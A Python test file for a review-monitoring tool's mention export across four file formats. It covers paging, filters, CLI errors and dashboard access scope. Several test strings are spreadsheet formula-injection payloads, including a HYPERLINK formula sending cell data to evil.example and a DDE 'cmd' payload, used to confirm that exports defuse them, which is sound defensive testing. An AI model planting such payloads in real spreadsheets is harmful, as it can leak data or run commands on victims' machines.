"""vocwatch export mentions (issue 14, item 7): filters pushed to the store, pages read one
at a time, the workflow state beside each mention, every format read back, spreadsheet
formulas in scraped text defused, and the dashboard's download scoped like every read."""

from __future__ import annotations

import csv
import io
import json
import textwrap
import urllib.error
import urllib.request
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow.parquet as pq
import pytest

from config.loader import load_config
from crawlers.items import Mention, mention_content_hash, mention_fingerprint
from crawlers.store.base import MentionQuery
from crawlers.store.sqlite import SQLiteStore
from crawlers.store.workflow import WorkItem, apply_change
from monitor.export import (
    EXCEL_MAX_CELL,
    MENTION_COLUMNS,
    ExportError,
    export_mentions,
    guard_formula,
    iter_matching,
    mention_query,
)
from tests.dashboard_data import NOW, PUDONG_SECRET, Chain, serve_chain
from vocwatch.cli import main

T0 = datetime(2026, 11, 20, 6, 32, 10, tzinfo=UTC)
HEAD = [c for c, _ in MENTION_COLUMNS]
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1"]
CONFIG = """\
[store]
url = "sqlite:///{db}"
[[brands]]
id = "harbor"
[[locations]]
id = "bund"
name = "Harbor Bund"
brand = "harbor"
category = "hotel"
lat = 31.0
lon = 121.0
region = "shanghai"
role = "own"
[[locations]]
id = "pudong"
name = "Harbor Pudong"
brand = "harbor"
category = "hotel"
lat = 31.1
lon = 121.1
region = "shanghai"
role = "own"
[[locations]]
id = "rival"
name = "Rival"
brand = "harbor"
category = "hotel"
lat = 31.2
lon = 121.2
region = "shanghai"
role = "competitor"
"""


def mention(i: int, *, location: str = "bund", when: datetime | None = T0, **kw: Any) -> Mention:
    m = Mention(site=kw.pop("site", "stayadvisor"), kind="review", url=f"https://x.test/r/{i}",
                text=kw.pop("text", f"text {i}"), source_id=kw.pop("source_id", f"{location}/hotel_reviews"),
                location_id=location, brand="harbor", external_id=str(i), published_at=when, crawled_at=T0,
                author=f"u_{i:016x}", **kw)
    m.fingerprint, m.content_hash = mention_fingerprint(m), mention_content_hash(m)
    return m


def sample() -> list[Mention]:
    """12 mentions over three locations: ratings, labels, aspects, languages, sites, a reply,
    ties in one second, one without a date, and hostile text."""
    out = [
        mention(0, rating=5.0, sentiment_label="positive", sentiment_score=0.8, language="en",
                aspects=[{"aspect": "staff", "sentiment": "positive", "score": 0.8}], keywords=["staff", "view"]),
        mention(1, when=T0 - timedelta(days=1), rating=1.0, sentiment_label="negative", language="zh",
                reply_text="抱歉", reply_at=T0, aspects=[{"aspect": "breakfast", "sentiment": "negative", "score": -0.7}]),
        mention(2, when=T0 - timedelta(days=2), location="pudong", rating=3.0, sentiment_label="neutral",
                language="en", site="yelp"),
        mention(3, when=None, rating=4.0, sentiment_label="positive", language="en"),  # the page gave no date
        mention(4, when=T0 - timedelta(days=3), rating=2.0, sentiment_label="negative", language="en",
                aspects=[{"aspect": "breakfast", "sentiment": "positive", "score": 0.5},
                         {"aspect": "staff", "sentiment": "negative", "score": -0.5}]),
        mention(5, location="rival", rating=4.5, sentiment_label="positive", language="en"),
    ]
    # four in the same second (sites that show a day only): a page boundary falls among them
    out += [mention(10 + k, when=T0 - timedelta(days=5), rating=3.0, sentiment_label="neutral", language="en")
            for k in range(4)]
    out += [mention(20 + k, when=T0 - timedelta(days=6), text=t, rating=1.0, sentiment_label="negative",
                    language="en") for k, t in enumerate(HOSTILE[:2])]
    return out


@pytest.fixture
def filled(any_store: Any) -> Any:
    any_store.upsert_mentions(sample())
    item, events = apply_change(WorkItem("mention", mention(1).fingerprint, "bund"), now=T0, actor="token:t1 Front desk",
                                assignee="Front desk")
    any_store.workflow.save(item, events)
    return any_store


def ids(ms: Any) -> list[str]:
    return [m.external_id for m in ms]


def _all(store: Any) -> list[Mention]:
    out, off = [], 0
    while page := store.query_mentions(MentionQuery(limit=1000, offset=off)):
        out += page
        off += len(page)
    return out


# -- paging -------------------------------------------------------------------------------
@pytest.mark.parametrize("page", [1, 2, 3, 100])
def test_every_match_is_read_once_whatever_the_page_size(filled: Any, page: int) -> None:
    q = MentionQuery(location_ids=("bund", "pudong", "rival"))
    got = ids(iter_matching(filled, q, page))
    assert sorted(got) == sorted(ids(_all(filled))) and len(got) == len(set(got)) == 12
    assert got.index("3") == got.index("4") + 4 + 2 + 1  # bund: dated newest first, the undated one last
    windowed = MentionQuery(location_ids=("bund",), since=T0 - timedelta(days=5), until=T0)
    assert ids(iter_matching(filled, windowed, page)) == ["1", "4", *sorted(
        ["10", "11", "12", "13"], key=lambda e: mention(int(e)).fingerprint)]


class _Counting:
    """A store that records every query it is asked (the export must page, never read all)."""

    def __init__(self, store: Any) -> None:
        self.store, self.limits = store, []

    def query_mentions(self, q: MentionQuery) -> list[Mention]:
        self.limits.append(q.limit)
        return self.store.query_mentions(q)

    def __getattr__(self, name: str) -> Any:
        if name == "iter_mentions":
            raise AssertionError("iter_mentions reads a location whole")
        return getattr(self.store, name)


def test_the_export_reads_pages_of_a_bounded_size(filled: Any, tmp_path: Path) -> None:
    counting = _Counting(filled)
    from monitor.export import mention_rows

    rows = list(mention_rows(counting, MentionQuery(location_ids=("bund", "pudong", "rival")), page=2))  # type: ignore[arg-type]
    assert len(rows) == 12 and set(counting.limits) == {2} and len(counting.limits) >= 6


# -- rows, filters, workflow ----------------------------------------------------------------
def test_filters_reach_the_store(filled: Any) -> None:
    cfg = load_config_for(filled)

    def q(**kw: Any) -> list[str]:
        return sorted(ids(iter_matching(filled, mention_query(known_locations=cfg.locations, **kw))), key=int)

    assert q() == ["0", "1", "2", "3", "4", "5", "10", "11", "12", "13", "20", "21"]
    assert q(location_ids=["pudong", "rival"]) == ["2", "5"]
    assert q(sentiments=["negative"], location_ids=["bund"]) == ["1", "4", "20", "21"]
    assert q(aspect="breakfast") == ["1", "4"] and q(aspect="breakfast", aspect_sentiment="negative") == ["1"]
    assert q(languages=["zh"]) == ["1"] and q(sites=["yelp"]) == ["2"] and q(sources=["rival/hotel_reviews"]) == ["5"]
    assert q(min_rating=4.0) == ["0", "3", "5"] and q(min_rating=2.0, max_rating=3.0) == ["2", "4", "10", "11", "12", "13"]
    assert q(has_reply=True) == ["1"]
    assert q(since=T0 - timedelta(days=2), until=T0) == ["1", "2"]  # until is exclusive: the T0 ones are out


def load_config_for(store: Any) -> Any:
    """The three locations of CONFIG (the store URL does not matter to the filters)."""
    import tempfile

    d = Path(tempfile.mkdtemp())
    (d / "v.toml").write_text(textwrap.dedent(CONFIG.format(db=d / "x.db")), encoding="utf-8")
    return load_config(d / "v.toml")


def test_bad_requests_are_refused_before_any_query() -> None:
    cfg = load_config_for(None)
    for kw, message in (({"location_ids": ["nowhere"]}, "unknown location 'nowhere'"),
                        ({"sentiments": ["angry"]}, "unknown sentiment 'angry'"),
                        ({"min_rating": 4.0, "max_rating": 2.0}, "min rating 4 is above max rating 2"),
                        ({"min_rating": 7.0}, "from 0 to 5"),
                        ({"aspect_sentiment": "negative"}, "needs an aspect"),
                        ({"since": T0, "until": T0}, "must be before")):
        with pytest.raises(ExportError, match=message):
            mention_query(known_locations=cfg.locations, **kw)  # type: ignore[arg-type]


def read_back(path: Path | bytes, fmt: str) -> list[dict[str, Any]]:
    data = path if isinstance(path, bytes) else path.read_bytes()
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
        assert rows[0] == HEAD
        return [dict(zip(HEAD, r, strict=True)) for r in rows[1:]]
    if fmt == "json":
        return [json.loads(line) for line in data.decode("utf-8").splitlines()]
    if fmt == "parquet":
        return pq.read_table(io.BytesIO(data)).to_pylist()
    wb = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    rows = list(wb["mentions"].iter_rows(values_only=True))
    assert list(rows[0]) == HEAD
    return [dict(zip(HEAD, r, strict=True)) for r in rows[1:]]


@pytest.mark.parametrize("fmt", ["csv", "json", "parquet", "xlsx"])
def test_every_format_holds_the_mentions_and_their_workflow(filled: Any, tmp_path: Path, fmt: str) -> None:
    cfg = load_config_for(filled)
    out = tmp_path / f"m.{fmt}"
    r = export_mentions(filled, mention_query(known_locations=cfg.locations, location_ids=["bund"]), out, fmt,
                        locations=cfg.locations)
    rows = {str(x["external_id"]): x for x in read_back(out, fmt)}
    assert r.rows == len(rows) == 10 and r.path == out
    one, zero = rows["1"], rows["0"]
    assert (one["location_name"], one["region"], one["role"], one["status"], one["assignee"]) == (
        "Harbor Bund", "shanghai", "own", "assigned", "Front desk")
    assert zero["status"] == "new" and zero["assignee"] in (None, "")
    assert str(one["sentiment"]) == "negative" and float(one["rating"]) == 1.0 and one["reply_text"] == "抱歉"
    if fmt == "csv":
        assert one["published_at"] == "2026-11-19T06:32:10Z" and one["replied"] == "true"
        assert zero["aspects"] == "staff:positive" and zero["keywords"] == "staff; view" and rows["3"]["published_at"] == ""
    elif fmt == "json":
        assert one["published_at"] == "2026-11-19T06:32:10Z" and one["replied"] is True
        assert zero["aspects"] == [{"aspect": "staff", "sentiment": "positive", "score": 0.8}]
        assert zero["keywords"] == ["staff", "view"] and rows["3"]["published_at"] is None
    elif fmt == "parquet":
        assert one["published_at"] == T0 - timedelta(days=1) and one["replied"] is True
        assert zero["aspects"] == [{"aspect": "staff", "sentiment": "positive", "score": 0.8}]
    else:
        assert one["published_at"] == (T0 - timedelta(days=1)).replace(tzinfo=None)  # UTC wall time
        assert one["status_updated_at"] == T0.replace(tzinfo=None) and zero["aspects"] == "staff:positive"
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_spreadsheet_formulas_in_scraped_text_get_a_leading_apostrophe(any_store: Any, tmp_path: Path, fmt: str) -> None:
    any_store.upsert_mentions([mention(30 + k, text=t, title=t) for k, t in enumerate(HOSTILE)]
                              + [mention(40, text="ok = fine; -ish", title="bad\x00\x07byte"),
                                 mention(41, text="x" * (EXCEL_MAX_CELL + 10))])
    out = tmp_path / f"h.{fmt}"
    export_mentions(any_store, MentionQuery(location_ids=("bund",)), out, fmt)
    rows = {str(r["external_id"]): r for r in read_back(out, fmt)}
    for k, t in enumerate(HOSTILE):
        assert rows[str(30 + k)]["text"] == "'" + t and rows[str(30 + k)]["title"] == "'" + t
    assert rows["40"]["text"] == "ok = fine; -ish"  # only a leading formula character counts
    if fmt == "xlsx":
        ws = openpyxl.load_workbook(out)["mentions"]
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)  # no cell is a formula
        assert rows["40"]["title"] == "bad\ufffd\ufffdbyte" and len(rows["41"]["text"]) == EXCEL_MAX_CELL
    else:
        assert rows["40"]["title"] == "bad\x00\x07byte" and len(rows["41"]["text"]) == EXCEL_MAX_CELL + 10


@pytest.mark.parametrize("fmt", ["json", "parquet"])
def test_jsonl_and_parquet_keep_the_text_exactly(any_store: Any, tmp_path: Path, fmt: str) -> None:
    any_store.upsert_mentions([mention(30 + k, text=t) for k, t in enumerate(HOSTILE)])
    out = tmp_path / f"h.{fmt}"
    export_mentions(any_store, MentionQuery(location_ids=("bund",)), out, fmt)
    assert sorted(r["text"] for r in read_back(out, fmt)) == sorted(HOSTILE)
    assert guard_formula("=1") == "'=1" and guard_formula("a=1") == "a=1"


def test_mentions_stored_without_keywords_export_them_extracted(any_store: Any, tmp_path: Path) -> None:
    """A crawl stores no keywords (they are extracted on demand): the export still has them;
    keywords stored with a mention (reanalysis, older crawls) are exported as stored."""
    any_store.upsert_mentions([mention(40, text="房间里有蟑螂，床单也不干净", language="zh"),
                               mention(41, text="房间里有蟑螂", language="zh", keywords=["stored"])])
    out = tmp_path / "k.json"
    export_mentions(any_store, MentionQuery(location_ids=("bund",)), out, "json")
    rows = {str(r["external_id"]): r for r in read_back(out, "json")}
    assert "蟑螂" in rows["40"]["keywords"] and rows["41"]["keywords"] == ["stored"]


class _Pipe(io.BytesIO):
    """Standard output as a pipe: not seekable."""

    def seekable(self) -> bool:
        return False

    def seek(self, *a: Any) -> int:
        raise io.UnsupportedOperation("pipe")

    def tell(self) -> int:
        raise io.UnsupportedOperation("pipe")


@pytest.mark.parametrize("fmt", ["csv", "json", "parquet", "xlsx"])
def test_standard_output_gets_the_file(filled: Any, fmt: str) -> None:
    pipe = _Pipe()
    r = export_mentions(filled, MentionQuery(location_ids=("pudong",)), "-", fmt, stdout=pipe)
    assert r.rows == 1 and [x["external_id"] for x in read_back(pipe.getvalue(), fmt)] == ["2"]
    with pytest.raises(ExportError, match="give --format"):
        export_mentions(filled, MentionQuery(), "-", None, stdout=pipe)


# -- the command line ---------------------------------------------------------------------------
def _cli_setup(tmp_path: Path) -> Path:
    db, cfg = tmp_path / "s.db", tmp_path / "v.toml"
    cfg.write_text(textwrap.dedent(CONFIG.format(db=db)), encoding="utf-8")
    store = SQLiteStore(str(db))
    store.upsert_mentions(sample())
    store.close()
    return cfg


def test_cli_exports_with_filters_and_exits_2_on_bad_input(tmp_path: Path, capsys: Any) -> None:
    cfg = _cli_setup(tmp_path)
    out = tmp_path / "neg.xlsx"
    assert main(["export", "mentions", "-c", str(cfg), "--location", "bund", "--location", "pudong,rival",
                 "--sentiment", "negative", "neutral", "--since", "2026-11-14", "--until", "2026-11-20",
                 "--out", str(out)]) == 0
    assert "9 mentions ->" in capsys.readouterr().err  # the T0 one is on the --until day: out
    assert sorted((r["external_id"] for r in read_back(out, "xlsx")), key=int) == [
        "1", "2", "4", "10", "11", "12", "13", "20", "21"]
    out = tmp_path / "m.csv"
    assert main(["export", "mentions", "-c", str(cfg), "--aspect", "breakfast", "--aspect-sentiment", "negative",
                 "--min-rating", "1", "--max-rating", "1.5", "--replied", "yes", "--out", str(out)]) == 0
    assert [r["external_id"] for r in read_back(out, "csv")] == ["1"]
    for args, message in ((["--location", "bnd"], "--location 'bnd' is not a configured location; did you mean 'bund'"),
                          (["--source", "bund/hotel"], "--source 'bund/hotel' is not a configured source"),
                          (["--sentiment", "angry"], "unknown sentiment"),
                          (["--window", "30d", "--since", "2026-01-01"], "--window or --since"),
                          (["--window", "3x"], "bad window"),
                          (["--min-rating", "6"], "from 0 to 5")):
        assert main(["export", "mentions", "-c", str(cfg), *args, "--out", str(tmp_path / "x.csv")]) == 2
        assert message in capsys.readouterr().err, args
    assert main(["export", "mentions", "-c", str(cfg), "--out", str(tmp_path / "x.pdf")]) == 2
    assert "cannot tell the format" in capsys.readouterr().err
    assert main(["export", "mentions", "-c", str(cfg), "--out", "-"]) == 2
    assert "give --format" in capsys.readouterr().err


def test_cli_writes_to_standard_output(tmp_path: Path, capsysbinary: Any) -> None:
    cfg = _cli_setup(tmp_path)
    assert main(["export", "mentions", "-c", str(cfg), "--location", "rival", "--format", "jsonl", "--out", "-"]) == 0
    captured = capsysbinary.readouterr()
    assert [json.loads(line)["external_id"] for line in captured.out.decode().splitlines()] == ["5"]
    assert b"1 mentions -> standard output (json)" in captured.err


# -- the dashboard ------------------------------------------------------------------------------
FORMULA = '=HYPERLINK("http://evil.example","Bund review")'


@pytest.fixture(scope="module")
def chain(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chain]:
    with serve_chain(tmp_path_factory.mktemp("chain")) as c:
        m = Mention(site="stayadvisor", kind="review", url="https://reviews.example/harbor-sh-bund/f", text=FORMULA,
                    external_id="formula", source_id="harbor-sh-bund/hotel_reviews", location_id="harbor-sh-bund",
                    brand="harbor", published_at=NOW - timedelta(hours=1), crawled_at=NOW, rating=2.0,
                    sentiment_label="negative")
        m.fingerprint = mention_fingerprint(m)
        c.dashboard.store.upsert_mentions([m])
        item, events = apply_change(WorkItem("mention", m.fingerprint, "harbor-sh-bund"), now=NOW,
                                    actor="token:t1 Front desk", assignee="Front desk")
        c.dashboard.store.workflow.save(item, events)
        yield c


def get(chain: Chain, path: str, who: str) -> tuple[int, dict[str, str], bytes]:
    req = urllib.request.Request(chain.base_url + path, headers={"Authorization": f"Bearer {chain.tokens[who]}"})
    try:
        with urllib.request.urlopen(req, timeout=20) as r:
            return r.status, dict(r.headers), r.read()
    except urllib.error.HTTPError as e:
        return e.code, dict(e.headers), e.read()


def test_a_store_manager_cannot_export_another_locations_mentions(chain: Chain) -> None:
    for path in ("/api/export/mentions?location=harbor-sh-pudong",
                 "/api/export/mentions?location=harbor-sh-bund&location=harbor-sh-pudong",
                 "/api/export/mentions?location=harbor-sh-bund,harbor-sh-pudong&format=jsonl",
                 "/api/export/mentions?location=rival-sh"):
        status, _, body = get(chain, path, "location")
        assert status == 403 and b"outside this token's scope" in body and PUDONG_SECRET.encode() not in body
    status, _, body = get(chain, "/api/export/mentions?format=jsonl&window=all", "location")
    rows = [json.loads(line) for line in body.decode().splitlines()]
    assert status == 200 and {r["location_id"] for r in rows} == {"harbor-sh-bund"} and len(rows) == 121
    assert PUDONG_SECRET.encode() not in body
    status, _, body = get(chain, "/api/export/mentions?format=jsonl&window=all", "region")
    assert {json.loads(line)["location_id"] for line in body.decode().splitlines()} == {
        "harbor-sh-bund", "harbor-sh-pudong", "lotus-sh"}  # own locations only, never the rivals'


@pytest.mark.parametrize(("fmt", "ctype", "suffix"), [
    ("csv", "text/csv; charset=utf-8", "csv"), ("jsonl", "application/x-ndjson; charset=utf-8", "jsonl"),
    ("parquet", "application/vnd.apache.parquet", "parquet"),
    ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx")])
def test_the_download_follows_the_inbox_filters(chain: Chain, fmt: str, ctype: str, suffix: str) -> None:
    status, headers, body = get(chain, f"/api/export/mentions?format={fmt}&window=30d&sentiment=negative"
                                       "&limit=5&offset=3", "location")
    assert status == 200 and headers["Content-Type"] == ctype
    assert headers["Content-Disposition"] == f'attachment; filename="mentions-20260331-1200.{suffix}"'
    rows = read_back(body, "json" if fmt == "jsonl" else fmt)
    assert len(rows) == 7  # the inbox's limit/offset page the list, not the export: 6 a day %5 + the formula
    assert {str(r["sentiment"]) for r in rows} == {"negative"} and {r["location_id"] for r in rows} == {"harbor-sh-bund"}
    texts = {r["text"] for r in rows}
    assert (("'" + FORMULA) if fmt in ("csv", "xlsx") else FORMULA) in texts


def test_the_download_follows_the_inbox_status_and_assignee_filters(chain: Chain) -> None:
    status, _, body = get(chain, "/api/export/mentions?format=jsonl&status=assigned&assignee=Front%20desk", "location")
    rows = [json.loads(line) for line in body.decode().splitlines()]
    assert status == 200 and [(r["text"], r["status"], r["assignee"]) for r in rows] == [
        (FORMULA, "assigned", "Front desk")]
    status, _, body = get(chain, "/api/export/mentions?format=jsonl&status=new", "location")
    rows = [json.loads(line) for line in body.decode().splitlines()]
    assert status == 200 and rows and FORMULA not in {r["text"] for r in rows} and {r["status"] for r in rows} == {"new"}


def test_bad_export_requests_are_400(chain: Chain, monkeypatch: pytest.MonkeyPatch) -> None:
    status, _, body = get(chain, "/api/export/mentions?format=pdf", "location")
    assert status == 400 and b"bad format 'pdf'" in body
    status, _, body = get(chain, "/api/export/mentions?min_rating=9", "location")
    assert status == 400
    from monitor.dashboard.api import export as api_export

    monkeypatch.setattr(api_export, "MAX_ROWS", 10)
    status, _, body = get(chain, "/api/export/mentions?window=all", "location")
    assert status == 400 and b"121 mentions match" in body and b"vocwatch export mentions" in body


def test_bench_export_mentions_runs_on_a_tiny_set(tmp_path: Path) -> None:
    from vocwatch.bench.export import run_mentions

    said: list[str] = []
    steps = run_mentions(tmp_path, formats=["csv", "xlsx"], locations=6, mentions=400, say=said.append)
    assert [s.step for s in steps[:3]] == ["store pages (baseline)", "export csv", "export xlsx"]
    every = [s for s in steps if s.grouping == "every location"]
    assert len({s.rows for s in every}) == 1 and every[0].rows == 400  # every format wrote every mention
    assert any("peak RSS" in line for line in said)
